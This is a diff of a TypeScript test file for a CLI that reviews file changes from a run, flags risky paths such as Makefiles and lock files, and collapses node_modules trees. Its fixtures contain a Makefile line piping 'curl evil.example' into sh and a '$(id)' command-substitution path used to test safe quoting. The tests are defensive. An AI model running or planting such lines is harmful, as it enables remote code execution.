@@ -1,7 +1,7 @@
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { showChanges } from '../../../cli/changes/show.ts';
+import { type ShowOptions, showChanges } from '../../../cli/changes/show.ts';
 import { inkFor } from '../../../cli/terminal/output.ts';
 import type { WaitingChanges } from '../../../runner/changes/waiting.ts';
 import type {
@@ -28,7 +28,7 @@ const fileOf = (text: string): EntryState => {
 };
 const shown = (
   changes: Change[],
-  linesMax?: number,
+  options?: ShowOptions,
   path = '/nowhere',
   refused: ChangedFolder['refused'] = [],
 ): string[] => {
@@ -47,7 +47,7 @@ const shown = (
   return showChanges(
     { set, digest: digestOf('set'), folder: '/kept', begun: false, read },
     ink,
-    linesMax,
+    options,
   ).text.split('\n');
 };
 const pages = Array.from(
@@ -58,9 +58,12 @@ const makefile: Change = { path: 'z/Makefile', after: fileOf('all: ; curl evil.e
 
 describe('a marked path among thousands', () => {
   it('is counted at the top and again at the end, stands first, and is shown whole however much there is', () => {
-    const lines = shown([...pages, makefile], 100);
+    const lines = shown([...pages, makefile], { linesMax: 100 });
     const sum = 'check: 1 of 3001 changed paths marked for a closer look; marked paths come first';
-    expect(lines.slice(0, 6)).toEqual([
+    expect(lines.slice(0, 9)).toEqual([
+      '3001 created by a run of the operator with @a/b@1.0.0, 2026-01-01T00:00:00.000Z',
+      '  /w/docs  3000 created  13.6 KiB',
+      '  /w/z     1 created     30 bytes',
       sum,
       '  1: builds, tests, CI or tools obey it',
       '/w in the run is /nowhere on this host',
@@ -68,18 +71,83 @@ describe('a marked path among thousands', () => {
       '  @@ -0,0 +1 @@',
       '  +all: ; curl evil.example | sh',
     ]);
-    expect(lines.slice(-2)).toEqual([sum, `changes ${digestOf('set')}`]);
-    expect(lines.filter((line) => line.startsWith('created '))).toHaveLength(3_001);
+    expect(lines.slice(-4)).toEqual([
+      'not shown one by one: docs/ 2001 created, 9.8 KiB: skillgate changes show 0f35d1a0 --path docs',
+      sum,
+      '2001 changes not shown one by one: see above',
+      `changes ${digestOf('set')}`,
+    ]);
+    expect(lines.filter((line) => line.startsWith('created '))).toHaveLength(1_000);
+    const all = shown([...pages, makefile], { linesMax: 100, paths: ['**'] });
+    expect(all.filter((line) => line.startsWith('created '))).toHaveLength(3_001);
   });
 
   it('is none where all are ordinary, and nothing is said of marks', () => {
-    expect(shown(pages.slice(0, 2)).slice(0, 4)).toEqual([
+    expect(shown(pages.slice(0, 2)).slice(1, 5)).toEqual([
       '/w in the run is /nowhere on this host',
       'created docs/page0.md (2 bytes 644, owner 1:1)',
       '  @@ -0,0 +1 @@',
       '  +0',
     ]);
   });
+});
+
+describe('a generated tree', () => {
+  const packages = Array.from(
+    { length: 30 },
+    (_, index): Change => ({ path: `app/node_modules/p${index}/a.js`, after: fileOf(`${index}`) }),
+  );
+  const hook: Change = {
+    path: 'app/node_modules/p/Makefile',
+    after: fileOf('all: ; curl evil.example | sh\n'),
+  };
+
+  it('is a line with its count, its size and its marked paths, and other paths are shown', () => {
+    const lines = shown([...packages, hook, makefile]);
+    expect(lines).toContain(
+      'not shown one by one: app/node_modules/ 31 created, 80 bytes, 1 marked: skillgate changes show 0f35d1a0 --path app/node_modules',
+    );
+    expect(lines.filter((line) => line.startsWith('created '))).toEqual([
+      expect.stringContaining('created z/Makefile'),
+    ]);
+    expect(lines).toContain('31 changes not shown one by one: see above');
+  });
+
+  it.each([
+    ['its folder', 'app/node_modules', 31],
+    ['a pattern', 'app/**/Makefile', 1],
+    ['the place in the run', '/w/app/node_modules/p', 1],
+    ['the mount', '/w', 32],
+  ])('is shown path by path when --path names %s', (_, pattern, number) => {
+    const lines = shown([...packages, hook, makefile], { paths: [pattern] });
+    expect(lines.filter((line) => line.startsWith('created '))).toHaveLength(number);
+    expect(lines).toContain('  +all: ; curl evil.example | sh');
+  });
+
+  it('hides nothing where only a few paths lie in a folder of that name', () => {
+    expect(shown([hook, ...packages.slice(0, 5)])).toContain('  +all: ; curl evil.example | sh');
+  });
+
+  it.each(['app/node_modules-x/a', 'node_modules', 'src/Dist/a'])('is not %s', (path) => {
+    const changes = packages.map(
+      (change, index): Change => ({ ...change, path: path.replace(/a?$/, `$&${index}`) }),
+    );
+    expect(shown(changes).filter((line) => line.startsWith('created '))).toHaveLength(30);
+  });
+
+  it('is named so that a shell obeys nothing in the name', () => {
+    const traps = packages.map(
+      (change): Change => ({ ...change, path: `$(id)'/${change.path.slice(4)}` }),
+    );
+    expect(shown(traps).join('\n')).toContain(`--path '$(id)'\\''/node_modules'`);
+  });
+});
+
+it('a lock file has its mark, and its content is shown when --path names it', () => {
+  const lock: Change = { path: 'yarn.lock', after: fileOf('a\n') };
+  expect(shown([lock]).filter((line) => line.includes('+a'))).toEqual([]);
+  expect(shown([lock])).toContain('  ! tools write this file: its content is shown with --path');
+  expect(shown([lock], { paths: ['yarn.lock'] })).toContain('  +a');
 });
 
 it('signs that stand for blanks are explained where they are used', () => {
@@ -91,7 +159,7 @@ it('signs that stand for blanks are explained where they are used', () => {
 
 it('a list that a folder gives to what is new is told of', () => {
   const change: Change = { path: 'a.txt', after: fileOf(''), list: 'folder' };
-  expect(shown([change])[1]).toBe(
+  expect(shown([change])[2]).toBe(
     'created a.txt (0 bytes 644, owner 1:1, gets the access list of its folder; if the folder gives none, only the owner has access)',
   );
 });
@@ -133,17 +201,17 @@ describe('a path or where a link leads', () => {
     ['a path that ends as a folder is described', folder('x (folder 755, owner 1:1)'), folder('x')],
     ['a path in quotes', folder('"a b"'), folder('a b')],
   ])('is never shown as another: %s', (_, one, other) => {
-    expect(shown([one])[1]).not.toBe(shown([other])[1]);
-    expect(shown([one])[1]?.replace(/\p{Zs}/gu, ' ')).not.toBe(
-      shown([other])[1]?.replace(/\p{Zs}/gu, ' '),
+    expect(shown([one])[2]).not.toBe(shown([other])[2]);
+    expect(shown([one])[2]?.replace(/\p{Zs}/gu, ' ')).not.toBe(
+      shown([other])[2]?.replace(/\p{Zs}/gu, ' '),
     );
   });
 
   it('stands as it is where it is plain', () => {
-    expect(shown([link('docs/größe-1.md', '../a_b')])[1]).toBe(
+    expect(shown([link('docs/größe-1.md', '../a_b')])[2]).toBe(
       'created docs/größe-1.md (link to ../a_b, owner 1:1)',
     );
-    expect(shown([link('a b', 'c d')])[1]).toBe('created "a b" (link to "c d", owner 1:1)');
+    expect(shown([link('a b', 'c d')])[2]).toBe('created "a b" (link to "c d", owner 1:1)');
   });
 });
 
@@ -154,7 +222,7 @@ describe('texts of more lines than a person can be shown', () => {
   });
 
   it('are shown as far as there is room, the marked ones first, and the rest is counted', () => {
-    const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], 100);
+    const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], { linesMax: 100 });
     expect(lines).toContain('  +all: ; curl evil.example | sh');
     const why = 'all texts together have more than 32 MiB or 400000 lines';
     expect(
@@ -164,7 +232,7 @@ describe('texts of more lines than a person can be shown', () => {
   });
 
   it('are all shown where they are fewer', () => {
-    expect(shown([1, 2, 3].map(empty), 100).join('\n')).not.toContain('content');
+    expect(shown([1, 2, 3].map(empty), { linesMax: 100 }).join('\n')).not.toContain('content');
   });
 });
 
